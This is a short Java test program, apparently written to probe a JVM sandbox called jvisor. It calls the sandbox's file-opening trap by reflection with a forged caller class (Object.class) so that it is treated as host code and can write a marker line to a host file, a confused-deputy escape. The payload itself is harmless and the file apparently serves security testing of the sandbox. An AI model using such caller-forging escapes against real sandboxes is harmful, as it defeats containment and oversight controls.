package escape.hypervisor;

import java.io.FileOutputStream;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;

/**
 * Calls jvisor's trap entry point {@code Traps.newFileOutputStreamNamed(String, Class)} by
 * reflection with {@code Object.class} as the caller, hoping to be treated as host code and get a
 * stream on the host file FILE rather than on the guest's disk. Without jvisor it opens FILE plainly.
 *
 * <p>Source: the confused-deputy problem, https://en.wikipedia.org/wiki/Confused_deputy_problem
 */
public final class ForgedCallerFile {

    private ForgedCallerFile() {
    }

    public static void main(String[] args) {
        try {
            OutputStream out;
            try {
                out = (OutputStream) Class.forName("io.jvisor.hooks.Traps").getMethod("newFileOutputStreamNamed",
                        String.class, Class.class).invoke(null, args[0], Object.class);
            } catch (ClassNotFoundException e) {
                System.out.println("hypervisor-forged-caller-file: no jvisor here; opening the file plainly");
                out = new FileOutputStream(args[0]);
            }
            try (OutputStream o = out) {
                o.write("escaped\n".getBytes(StandardCharsets.US_ASCII));
            }
            System.out.println("hypervisor-forged-caller-file: wrote " + args[0]);
        } catch (Throwable t) {
            System.out.println("hypervisor-forged-caller-file: " + t);
        }
    }
}
